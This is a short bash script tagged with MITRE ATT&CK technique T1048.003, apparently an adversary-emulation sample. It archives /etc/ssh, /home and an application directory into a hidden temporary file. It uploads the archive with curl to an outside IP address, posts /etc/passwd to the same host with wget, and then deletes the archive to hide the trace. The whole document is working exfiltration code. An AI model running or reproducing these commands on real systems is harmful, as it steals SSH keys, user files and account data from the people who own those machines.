#!/bin/bash
# T1048.003: An archive of homes and settings is uploaded.
tar czf /tmp/.l.tgz /etc/ssh /home /srv/app 2>/dev/null; curl -s -T /tmp/.l.tgz http://44.128.66.66/; wget -q -O /dev/null --post-file=/etc/passwd http://44.128.66.66/p; rm /tmp/.l.tgz
